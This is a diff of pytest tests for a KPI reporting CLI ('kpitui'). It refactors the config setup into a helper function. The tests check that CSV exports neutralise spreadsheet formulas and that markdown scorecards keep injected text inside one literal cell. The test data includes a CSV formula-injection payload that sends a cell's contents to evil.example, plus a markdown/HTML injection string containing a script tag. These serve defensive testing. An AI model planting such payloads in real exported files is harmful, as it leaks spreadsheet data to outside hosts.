@@ -201,12 +201,8 @@ def test_an_id_with_a_control_character_is_refused(tmp_path, table, body):
     assert done.stderr.splitlines() == [f"kpitui: {path}: [{table}.a\\u001b[31m] the id holds a control character"]
 
 
-@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
-def test_csv_cells_of_config_text_are_never_spreadsheet_formulas(tmp_path, lead):
-    """A KPI named ``=HYPERLINK(...)`` (or starting ``+``, ``-``, ``@``) opened from ``report --format csv`` in a
-    spreadsheet would run as a formula: such a text cell starts with ``'`` (OWASP's advice); the numbers (a
-    negative value) stay numbers."""
-    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")'
+def one_kpi_config(tmp_path: Path, kpi_name: str, objective_title: str = "O") -> Path:
+    """A config of one metric ``a``, one KPI ``k`` named ``kpi_name`` and one objective ``o``, names as given."""
     path = tmp_path / "kpitui.toml"
     path.write_text(
         f"""
@@ -215,15 +211,25 @@ path = "{(tmp_path / "h.sqlite3").as_posix()}"
 [metrics.a]
 name = "A"
 [kpis.k]
-name = {json.dumps(name)}
+name = {json.dumps(kpi_name)}
 formula = "sum"
 metrics = ["a"]
 [objectives.o]
-title = "O"
+title = {json.dumps(objective_title)}
 kpis = ["k"]
 """,
         encoding="utf-8",
     )
+    return path
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_csv_cells_of_config_text_are_never_spreadsheet_formulas(tmp_path, lead):
+    """A KPI named ``=HYPERLINK(...)`` (or starting ``+``, ``-``, ``@``) opened from ``report --format csv`` in a
+    spreadsheet would run as a formula: such a text cell starts with ``'`` (OWASP's advice); the numbers (a
+    negative value) stay numbers."""
+    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")'
+    path = one_kpi_config(tmp_path, name)
     assert kpitui("record", "a", "-5", "--allow-negative", "--config", str(path)).returncode == 0
     done = kpitui("report", "--no-collect", "--format", "csv", "--config", str(path))
     assert done.returncode == 0, done.stderr
@@ -241,23 +247,7 @@ def test_markdown_scorecard_cells_of_config_text_stay_one_literal_cell(tmp_path)
 
     kpi = "Leads | 1 | x |\n| Forged | $9,999 |\n## Pwned [click](http://evil.example) <img src=x> *b* `c` \\"
     title = "Growth\n# Forged heading <script>x</script>"
-    path = tmp_path / "kpitui.toml"
-    path.write_text(
-        f"""
-[storage]
-path = "{(tmp_path / "h.sqlite3").as_posix()}"
-[metrics.a]
-name = "A"
-[kpis.k]
-name = {json.dumps(kpi)}
-formula = "sum"
-metrics = ["a"]
-[objectives.o]
-title = {json.dumps(title)}
-kpis = ["k"]
-""",
-        encoding="utf-8",
-    )
+    path = one_kpi_config(tmp_path, kpi, title)
     assert kpitui("record", "a", "7", "--config", str(path)).returncode == 0
     done = kpitui("report", "--no-collect", "--format", "markdown", "--config", str(path))
     assert done.returncode == 0, done.stderr
